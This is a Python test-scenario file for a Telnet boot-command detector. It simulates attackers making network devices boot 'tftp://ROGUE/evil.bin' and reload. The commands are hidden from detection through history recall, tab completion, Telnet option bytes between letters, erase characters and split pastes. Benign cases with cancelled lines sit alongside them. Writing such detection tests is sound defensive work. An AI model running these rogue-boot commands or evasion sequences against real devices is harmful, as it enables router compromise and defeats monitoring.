"""BW07: boot commands that only the device's own line editor makes whole, and lines that it takes back."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, ROGUE
from bootwarden.traffic.telnet import KILL_LINE, Telnet
from bootwarden.traffic.wire import Wire

OPERATOR = "10.0.2.30"
UP, LEFT, HOME, CANCEL = "\x1b[A", "\x1b[D", "\x01", "\x03"
EVIL = f"tftp://{ROGUE}/evil.bin"


def command(device: str = DEVICE, file: str | None = "evil.bin", server: str | None = ROGUE) -> Notice:
    """The notice of one command."""
    return Notice("Boot_Command", device, server, file)


@scenario("BW07", "malicious", site=HQ, with_site=Expect((command(), Notice("Remote_Reload", DEVICE))))
def bw07_history_recalled(wire: Wire) -> None:
    """Up arrows bring back commands of an earlier session: the device shows them, nobody types them."""
    session = Telnet(wire, ATTACKER, DEVICE, prompt="edge1(config)#")
    session.login()
    session.keys(UP, "exit")
    session.keys(UP, "\b \b" * 4 + f"boot system {EVIL}")
    session.keys("\r\0", "\r\nedge1(config)#")
    # The next line is on its way before the device has shown the recalled one.
    session.tcp.send(f"{UP}\r\0show clock\r\0".encode())
    session.tcp.reply(b"do reload\r\nProceed with reload? [confirm]\r\nedge1(config)#show clock\r\n08:00:00 UTC\r\n")
    session.close()


@scenario("BW07", "malicious", site=HQ, with_site=Expect((command(), command("10.0.1.2"), command("10.0.1.3"))))
def bw07_completed_and_helped(wire: Wire) -> None:
    """Tabs complete words, one of them ambiguous; help is asked for amid a line; letters go in at the cursor."""
    session = Telnet(wire, ATTACKER, DEVICE, prompt="edge1(config)#")
    session.login()
    session.keys("b\t", "b\r\n")
    session.keys("", "edge1(config)#b")
    session.keys("oo\t", "oot ")
    session.keys("sys\t", "system ")
    session.keys(f"{EVIL}\r\0", f"{EVIL}\r\nedge1(config)#")
    session.close()
    session = Telnet(wire, ATTACKER, "10.0.1.2", prompt="edge2(config)#")
    session.login()
    session.keys("Boot System ?", "Boot System ?\r\n  WORD  TFTP filename or URL\r\n\r\nedge2(config)#Boot System ")
    session.keys(f"TFTP evil.bin {ROGUE}\r\0", f"TFTP evil.bin {ROGUE}\r\nedge2(config)#")
    session.close()
    session = Telnet(wire, ATTACKER, "10.0.1.3", prompt="edge3#")
    session.login()
    session.keys(f'opy "{EVIL}" flash:', f'opy "{EVIL}" flash:')
    session.keys(HOME + "c", "\b" * 32 + f'copy "{EVIL}" flash:' + "\b" * 32)
    session.keys("\r\0", "\r\nDestination filename [evil.bin]? ")
    session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, ATTACKER, DEVICE), ("BW07", 0, ADMIN, "10.0.1.2")],
    raises_with_site=[("BW07", 0, ATTACKER, DEVICE), ("BW07", 10, ADMIN, "10.0.1.2")],
    site=HQ,
    with_site=Expect((command(), command("10.0.1.2"), command("10.0.1.2", IMAGE, "10.0.6.67"))),
)
def bw07_negotiated_and_pasted(wire: Wire) -> None:
    """Telnet options are negotiated within a command; forty lines are pasted at once, cut between two segments."""
    session = Telnet(wire, ATTACKER, DEVICE, prompt="edge1(config)#")
    session.login()
    line = f"boot system {EVIL}"
    session.tcp.send(line[:9].encode() + b"\xff\xf1\xff\xfd\x01")
    session.tcp.reply(line[:9].encode())
    session.tcp.send(b"\xff\xfb\x18\xff\xfa\x18\x00VT100\xff\xf0" + line[9:].encode() + b"\r\n")
    session.tcp.reply(line[9:].encode() + b"\r\nedge1(config)#")
    session.close()
    session = Telnet(wire, ADMIN, "10.0.1.2", prompt="edge2(config)#")
    session.login(user="anna")
    lines = [f"boot system {EVIL}"]
    lines += [f"boot system tftp {number}-{IMAGE} {BOOT_SERVER}" for number in range(40)]
    lines += [f"boot system tftp {IMAGE} 10.0.6.67"]
    session.tcp.send("".join(f"{text}\r\0" for text in lines).encode(), mss=700)
    session.tcp.reply("".join(f"{text}\r\nedge2(config)#" for text in lines).encode())
    session.close()


@scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
def bw07_recalled_and_cancelled(wire: Wire) -> None:
    """Recalled `show` commands list boot lines; a boot command is killed, cancelled or rubbed out before Enter."""
    session = Telnet(wire, OPERATOR, DEVICE)
    session.login()
    session.keys(UP, "show running-config | include boot")
    session.keys("\r\0", f"\r\nboot system {EVIL}\r\n description edge1#boot system {EVIL}\r\nedge1#")
    session.keys("sho\t", "show ")
    session.keys("boot\r\0", f"boot\r\nBOOT path-list      : {EVIL}\r\nedge1#")
    session.keys(f"reload{CANCEL}", "reload^C\r\nedge1#")
    session.keys(f"boot system {EVIL}{KILL_LINE}", f"boot system {EVIL}\r\x1b[Kedge1#")
    session.keys("show clock\r\0", "show clock\r\n08:00:00 UTC\r\nedge1#")
    session.keys("reload ?", "reload ?\r\n  LINE    Reason for reload\r\n  cancel  Cancel pending reload\r\n  <cr>\r\n")
    session.keys(CANCEL, "edge1#reload ^C\r\nedge1#")
    session.keys("show users\r\0", "show users\r\n* 66 vty 0  anna\r\nedge1#")
    session.close()


@scenario(
    "BW07",
    "benign",
    # A rule reads no banners, and does not see that the device echoes no password.
    raises=[("BW05", 3, ADMIN, DEVICE), ("BW07", 0, ADMIN, DEVICE)],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(evidence=()),
)
def bw07_banner_and_rubbed_password(wire: Wire) -> None:
    """A banner speaks of boot commands in their own words; a password like a command is typed with slips."""
    session = Telnet(wire, ADMIN, DEVICE, prompt="edge1(config)#")
    session.login(user="tom", password="bott\b\b\boot tftp:")
    session.typed("banner motd #", "Enter TEXT message.  End with the character '#'.", prompt="")
    session.typed(f"boot system tftp://{BOOT_SERVER}/{IMAGE}", "", prompt="")
    session.typed("reload", "", prompt="")
    session.typed("is what we do here on Sundays #")
    session.typed(f"alias exec evil boot system {EVIL}")
    session.typed(f"default boot system {EVIL}")
    session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect((command(), command("10.0.1.2"))),
)
def bw07_options_between_letters(wire: Wire) -> None:
    """Telnet's own commands stand between the letters of a command: a terminal's type, a window's size."""
    session = Telnet(wire, ATTACKER, DEVICE, prompt="edge1(config)#")
    session.login()
    between = (b"\xff\xf1", b"\xff\xfb\x18", b"\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0")
    line = f"boot system tftp evil.bin {ROGUE}"
    session.tcp.send(b"".join(c.encode() + between[n % 3] for n, c in enumerate(line)) + b"\r\0")
    session.tcp.reply(f"{line}\r\nedge1(config)#".encode())
    session.close()
    # IAC EC: the letter before it is erased.
    session = Telnet(wire, ATTACKER, "10.0.1.2", prompt="edge2(config)#")
    session.login()
    session.tcp.send(b"boot systemX\xff\xf7 tftp evil.bin " + ROGUE.encode() + b"\r\0")
    session.tcp.reply(f"{line}\r\nedge2(config)#".encode())
    session.close()
